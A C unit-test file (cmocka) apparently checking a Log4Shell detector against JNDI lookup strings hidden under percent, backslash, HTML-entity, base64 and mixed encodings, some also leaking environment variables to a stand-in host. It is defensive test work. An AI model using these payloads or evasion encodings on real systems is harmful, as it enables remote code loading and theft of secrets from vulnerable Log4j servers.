/* A lookup below encodings: each decoder, mixed orders, parts encoded alone, values inside a query string, JSON in JSON.
 * Encoded texts are written out by hand or come from Python's urllib, html, json and base64. */
#include "judge_row.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdint.h>
#include <cmocka.h>

#define RUN(rows) judge_rows(rows, sizeof rows / sizeof *rows)
#define H "ldap://h.example:389/a"
#define EXPLOIT "exploit", .indicators = H, .fires = FIRES_ALL, .normal = "${jndi:ldap://h.example/a}"
#define PLAIN_BASE64 "JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=" /* ${jndi:ldap://h.example/a} */

static void percent(void **state)
{
    static const struct judge_row rows[] = {
        ROW("%24%7Bjndi:ldap://h.example/a%7D", EXPLOIT, .chain = "percent"),
        ROW("%24%7bjndi:ldap://h.example/a%7d", EXPLOIT, .chain = "percent"),
        ROW("$%7Bjndi:ldap://h.example/a}", EXPLOIT, .chain = "percent"),
        ROW("%24{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent"),
        ROW("${jndi:ldap://h.example/a%7D", EXPLOIT, .chain = "percent"),
        ROW("${jndi%3Aldap%3A%2F%2Fh.example%2Fa}", EXPLOIT, .chain = "percent"),
        ROW("${jndi:ldap://h%2eexample/a}", "exploit", .normal = "${jndi:ldap://h.example/a}", .chain = "percent"),
        ROW("${%6a%6e%64%69:ldap://h.example/a}", EXPLOIT, .chain = "percent"),
        ROW("%24%7B%6A%6E%64%69%3A%6C%64%61%70%3A%2F%2F%68%2E%65%78%61%6D%70%6C%65%2F%61%7D", EXPLOIT, .chain = "percent"),
        ROW("%2524%257Bjndi:ldap://h.example/a%257D", EXPLOIT, .chain = "percent percent"),
        ROW("%252524%25257Bjndi:ldap://h.example/a%25257D", EXPLOIT, .chain = "percent percent percent"),
        ROW("%25252524%2525257Bjndi:ldap://h.example/a%2525257D", EXPLOIT, .chain = "percent percent percent percent"),
        ROW("%2%34{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent percent"),
        ROW("%u0024%u007Bjndi:ldap://h.example/a%u007D", EXPLOIT, .chain = "percent"),
        ROW("%U0024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent"),
        ROW("%24%7Bjndi:ldap://h.example/a+b%7D", "exploit", .chain = "form", .normal = "${jndi:ldap://h.example/a b}"),
        ROW("%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fh.example%2Fa%7D", "exploit", .indicators = H, .chain = "percent",
            .fires = FIRES_2_13),
        ROW("%24%7Bjndi:ldap://%24%7Benv:USER%7D.evil.example/a%7D", "exploit", .certainty = "conditional",
            .traits = "leak conditional", .conditions = "env:USER", .chain = "percent"),
        ROW("%24%7Benv:SECRET%7D", "leak", .chain = "percent", .normal = "${env:SECRET}"),
        ROW("%24%7B%20jndi:ldap://h.example/a%7D", "attempt", .chain = "percent"),
        ROW("%24%7Bjndi:LDAP://h.example/a%7D", "reach", .chain = "percent"),
    };
    (void)state;
    RUN(rows);
}

static void backslash(void **state)
{
    static const struct judge_row rows[] = {
        ROW("\\x24{jndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash"),
        ROW("\\x24\\x7Bjndi:ldap://h.example/a\\x7D", EXPLOIT, .chain = "backslash"),
        ROW("$\\x7bjndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash"),
        ROW("\\u0024\\u007bjndi:ldap://h.example/a\\u007d", EXPLOIT, .chain = "backslash"),
        ROW("${\\u006a\\u006e\\u0064\\u0069:ldap://h.example/a}", EXPLOIT, .chain = "backslash"),
        ROW("${jndi:ldap:\\/\\/h.example\\/a}", EXPLOIT, .chain = "backslash"),
        ROW("${jndi:ldap://h\\u002eexample/a}", "exploit", .normal = "${jndi:ldap://h.example/a}", .chain = "backslash"),
        ROW("\\u{24}{jndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash"),
        ROW("\\44{jndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash"),
        ROW("\\044\\173jndi:ldap://h.example/a\\175", EXPLOIT, .chain = "backslash"),
        ROW("\\\\u0024\\\\u007bjndi:ldap://h.example/a\\\\u007d", EXPLOIT, .chain = "backslash backslash"),
        ROW("{\\\"a\\\":\\\"\\\\u0024\\\\u007bjndi:ldap://h.example/a\\\\u007d\\\"}", EXPLOIT, .chain = "backslash backslash"),
        ROW("{\"a\":\"{\\\"b\\\":\\\"${jndi:ldap://h.example/a}\\\"}\"}", EXPLOIT, .chain = ""),
        ROW("\\x5Cu0024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash backslash"),
        ROW("\\U00000024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash"),
        ROW("\\U00000024\\U0000007bjndi:ldap://h.example/a\\U0000007d", EXPLOIT, .chain = "backslash"),
        ROW("%5CU00000024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash"),
        ROW("%5CU%300000024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash"),
        ROW("\\U01000024{jndi:ldap://h.example/a}", "none"), /* no code point */
        ROW("$\\{jndi:ldap://h.example/a\\}", "attempt"),
        ROW("\\$\\{jndi:ldap://h.example/a\\}", "attempt"),
        ROW("%5C%24%5C%7Bjndi:ldap://h.example/a%5C%7D", "attempt", .chain = "percent"),
        ROW("`$\\{user.name}`", "none"),
    };
    (void)state;
    RUN(rows);
}

static void html(void **state)
{
    static const struct judge_row rows[] = {
        ROW("&#36;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html"),
        ROW("&#36;&#123;jndi:ldap://h.example/a&#125;", EXPLOIT, .chain = "html"),
        ROW("&#x24;&#x7b;jndi:ldap://h.example/a&#x7d;", EXPLOIT, .chain = "html"),
        ROW("&#X24;&#X7B;jndi:ldap://h.example/a&#X7D;", EXPLOIT, .chain = "html"),
        ROW("&#0000036;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html"),
        ROW("&#36{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html"),
        ROW("&#36&#123jndi:ldap://h.example/a&#125", EXPLOIT, .chain = "html"),
        ROW("&dollar;&lbrace;jndi&colon;ldap&colon;&sol;&sol;h.example&sol;a&rbrace;", EXPLOIT, .chain = "html"),
        ROW("&dollar;&lcub;jndi:ldap://h&period;example/a&rcub;", EXPLOIT, .chain = "html"),
        ROW("$&lbrace;jndi:ldap://h.example/a}", EXPLOIT, .chain = "html"),
        ROW("ua {$#7Bjndi:ldap://h.example/a#7D|x}", EXPLOIT, .chain = "haproxy"),
        ROW("ua=$#7B$#7Blower:j#7Dndi:ldap://h.example/a#7D", "exploit", .indicators = H, .fires = FIRES_2_13, .chain = "haproxy"),
        ROW("$&LBRACE;jndi:ldap://h.example/a&RCUB;", EXPLOIT, .chain = "html"),
        ROW("&amp;#36;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html html"),
        ROW("&amp;amp;dollar;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html html html"),
        ROW("&#38;#36;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html html"),
        ROW("${jnd${upper:&imath;}:ldap://h.example/a}", "exploit", .indicators = H, .chain = "html", .fires = FIRES_2_13),
        ROW("${jndi:ldap://h&period;example/a}", "exploit", .normal = "${jndi:ldap://h.example/a}", .chain = "html"),
        ROW("<a title='&#36;{jndi:ldap://h.example/a}'>", EXPLOIT, .chain = "html"),
    };
    (void)state;
    RUN(rows);
}

static void base64(void **state)
{
    static const struct judge_row rows[] = {
        ROW(PLAIN_BASE64, EXPLOIT, .chain = "base64"),
        ROW("JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0", EXPLOIT, .chain = "base64"),
        ROW("/?a=1&data=" PLAIN_BASE64 "&b=2", EXPLOIT, .chain = "base64"),
        ROW("/?data=" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
        ROW("/api/" PLAIN_BASE64 "/x", EXPLOIT, .chain = "base64"),
        ROW("/api/JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0/x", EXPLOIT, .chain = "base64"),
        ROW("Basic " PLAIN_BASE64, EXPLOIT, .chain = "base64"),
        ROW("{\"d\":\"" PLAIN_BASE64 "\"}", EXPLOIT, .chain = "base64"),
        ROW("{\\\"d\\\":\\\"" PLAIN_BASE64 "\\\"}", EXPLOIT, .chain = "backslash base64"),
        ROW("(" PLAIN_BASE64 ")", EXPLOIT, .chain = "base64"),
        ROW("x-" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
        ROW("user_" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
        ROW("/a/some-user_" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
        ROW("JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0-x", EXPLOIT, .chain = "base64"),
        ROW("a_JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX5-fmJ9", "exploit", .chain = "base64"), /* holds a '-' */
        ROW("a_JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX5%2DfmJ9", "exploit", .chain = "percent base64"),
        ROW("/a/JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX5%2BfmJ9", "exploit", .chain = "percent base64"),
        ROW("/a/JHtqbmRp%4fmxkYXA6Ly9oLmV4YW1wbGUvYX0", EXPLOIT, .chain = "percent base64"),
        ROW("<a>" PLAIN_BASE64 "</a>", EXPLOIT, .chain = "base64"),
        ROW("X-Api-Version:" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
        ROW(PLAIN_BASE64 ":secret", EXPLOIT, .chain = "base64"), /* a user of basic authentication */
        ROW("${base64:" PLAIN_BASE64 ":-x}", "attempt"),
        ROW("${base64:JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0\\=}", "attempt"),
        ROW("data:text/plain;base64," PLAIN_BASE64, EXPLOIT, .chain = "base64"),
        ROW("=?utf-8?B?" PLAIN_BASE64 "?=", EXPLOIT, .chain = "encoded_word"),
        ROW("=?x?b?A " PLAIN_BASE64, EXPLOIT, .chain = "base64"), /* no word, but for who reads it as one nothing is left of the value */
        /* {"sub":"${jndi:ldap://h.example/a}"} as the second piece of a token */
        ROW("Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiIke2puZGk6bGRhcDovL2guZXhhbXBsZS9hfSJ9.", EXPLOIT, .chain = "base64"),
        ROW("a=1;b=" PLAIN_BASE64 "; c=2", EXPLOIT, .chain = "base64"),
        ROW("/?d=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%3D", EXPLOIT, .chain = "percent base64"),
        ROW("/?u=%2Fcb%3Fd%3DJHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%3D", EXPLOIT, .chain = "percent base64"),
        ROW("request=/?d\\=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0\\= method=GET", EXPLOIT, .chain = "base64"), /* CEF escapes '=' */
        ROW("/?d=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%253D", EXPLOIT, .chain = "percent percent base64"),
        ROW("&#61JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", EXPLOIT, .chain = "html base64"),
        ROW("&#x3dJHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", EXPLOIT, .chain = "html base64"),
        ROW("%26quotJHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=", EXPLOIT, .chain = "percent html base64"),
        /* of %24%7Bjndi:ldap://h.example/a%7D, and of the base64 of it */
        ROW("JTI0JTdCam5kaTpsZGFwOi8vaC5leGFtcGxlL2ElN0Q=", EXPLOIT, .chain = "base64 percent"),
        ROW("SkhScWJtUnBPbXhrWVhBNkx5OW9MbVY0WVcxd2JHVXZZWDA9", "none"),
        ROW("Skh0cWJtUnBPbXhrWVhBNkx5OW9MbVY0WVcxd2JHVXZZWDA9", EXPLOIT, .chain = "base64 base64"),
        /* of {"u":"..."}, of {"sub":"..."} in the alphabet of URLs, of <a>...</a> around the first, of a path before a blank */
        ROW("session=eyJ1IjoiSkh0cWJtUnBPbXhrWVhBNkx5OW9MbVY0WVcxd2JHVXZZWDA9In0=; Path=/", EXPLOIT, .chain = "base64 base64"),
        ROW("Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJKSHRxYm1ScE9teGtZWEE2THk5b0xtVjRZVzF3YkdVdllYMCJ9.", EXPLOIT, .chain = "base64 base64"),
        ROW("PGE+ZXlKMUlqb2lTa2gwY1dKdFVuQlBiWGhyV1ZoQk5reDVPVzlNYlZZMFdWY3hkMkpIVlhaWldEQTlJbjA9PC9hPg==", EXPLOIT, .chain = "base64 base64 base64"),
        ROW("YS9KSHRxYm1ScE9teGtZWEE2THk5b0xtVjRZVzF3YkdVdllYMCB4", EXPLOIT, .chain = "base64 base64"),
        /* of \u0024\u007bjndi:ldap://h.example/a\u007d */
        ROW("XHUwMDI0XHUwMDdiam5kaTpsZGFwOi8vaC5leGFtcGxlL2FcdTAwN2Q=", EXPLOIT, .chain = "base64 backslash"),
        /* both alphabets: ${jndi:ldap://h.example/a~~~b}; the '+' is none in a form */
        ROW("JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX5-fmJ9", "exploit", .chain = "base64"),
        ROW("JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX5+fmJ9", "exploit", .chain = "base64"),
        ROW("/?d=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX5%2BfmJ9", "exploit", .chain = "percent base64"),
        ROW("/?c=%20&d=JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX5+fmJ9%26", "exploit", .chain = "percent base64",
            .indicators = "ldap://h.example:389/a~~~b"),
        ROW("/?q=hello+" PLAIN_BASE64, EXPLOIT, .chain = "base64"),
        ROW("/?q=hello+JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0%3D+world", EXPLOIT, .chain = "form base64"),
        ROW("/?q=hello+JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0+world", EXPLOIT, .chain = "base64"),
    };
    (void)state;
    RUN(rows);
}

static void mixed_orders(void **state)
{
    static const struct judge_row rows[] = {
        ROW("&#37;24&#37;7Bjndi:ldap://h.example/a}", EXPLOIT, .chain = "html percent"),
        ROW("%26%2336%3B{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent html"),
        ROW("%26dollar%3B%26lbrace%3Bjndi:ldap://h.example/a}", EXPLOIT, .chain = "percent html"),
        ROW("%26dollar{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent html"),
        ROW("%5Cu0024%5Cu007bjndi:ldap://h.example/a%5Cu007d", EXPLOIT, .chain = "percent backslash"),
        ROW("%5cx24{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash"),
        ROW("\\x2524\\x257Bjndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash percent"),
        ROW("\\u002524\\u00257Bjndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash percent"),
        ROW("&#92;u0024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html backslash"),
        ROW("&bsol;u0024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html backslash"),
        ROW("\\x26#36;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash html"),
        ROW("\\u0026dollar;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "backslash html"),
        ROW("&#37;5Cu0024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html percent backslash"),
        ROW("%26%2337;5Cu0024{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent html percent backslash"),
        ROW("\\x2526%2523x24;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash percent html"),
        ROW("&#3%36;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent html"),
        ROW("%&#50;4{jndi:ldap://h.example/a}", EXPLOIT, .chain = "html percent"),
        ROW("\\u00%32%34{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash"),
        ROW("\\u%7B24%7D{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash"),
        ROW("&doll%61r;{jndi:ldap://h.example/a}", EXPLOIT, .chain = "percent html"),
        /* as BIND logs names */
        ROW("query: \\${jndi:ldap://h\\.example/a}.x.example IN A +", "exploit", .chain = "backslash", .fires = FIRES_ALL,
            .indicators = "ldap://h.example:389/a ldap://h\\.example:389/a"),
        ROW("%24\\u007bjndi:ldap://h.example/a}", EXPLOIT, .chain = "percent backslash"),
        ROW("&#36;%7Bjndi:ldap://h.example/a}", EXPLOIT, .chain = "percent html"),
        ROW("${jndi:ldap&#58;//h.example/a%7D", EXPLOIT, .chain = "percent html"),
        ROW("${${date:''j''}${date:''n''}${date:''d''}${date:''i''}:ldap://h.example/a}", "exploit", .indicators = "ldap://h.example:389/a", .fires = FIRES_2_8, .chain = "sql"), /* as SQL logs quotes */
        ROW("SELECT '${jn${date:}di${date:'':''}ldap://h.example/a}'", "exploit", .indicators = "ldap://h.example:389/a", .fires = FIRES_2_8, .chain = "sql"),
        ROW("SELECT '${jn${date:}di${date:%27%27:%27%27}ldap://h.example/a}'", "exploit", .indicators = "ldap://h.example:389/a", .fires = FIRES_2_8, .chain = "percent sql"),
    };
    (void)state;
    RUN(rows);
}

/* Decoding is off: what stands there. */
static void no_decoding(void **state)
{
    static const struct judge_row rows[] = {
        ROW("${jndi:ldap://h.example/a}", EXPLOIT, .no_decode = true),
        ROW("%24%7Bjndi:ldap://h.example/a%7D", "none", .no_decode = true),
        ROW("${jndi%3Aldap://h.example/a}", "none", .no_decode = true),
        ROW("${jndi:ldap%3A//h.example/a}", "reach", .no_decode = true, .indicators = ""),
        ROW(PLAIN_BASE64, "none", .no_decode = true),
    };
    (void)state;
    RUN(rows);
}

/* Decoded, and yet nothing. */
static void decoded_and_harmless(void **state)
{
    static const struct judge_row rows[] = {
        ROW("%24%7Buser.name%7D", "none"),
        ROW("%24%7B", "none"),
        ROW("%24%257B", "none"),
        ROW("&#36;&#123;x&#125;", "none"),
        ROW("\\u0024\\u007bitem\\u007d", "none"),
        ROW("%24%20%7B", "none"),
        ROW("%25%32%34", "none"),
    };
    (void)state;
    RUN(rows);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(percent),      cmocka_unit_test(backslash),   cmocka_unit_test(html),
        cmocka_unit_test(base64),       cmocka_unit_test(mixed_orders), cmocka_unit_test(no_decoding),
        cmocka_unit_test(decoded_and_harmless),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
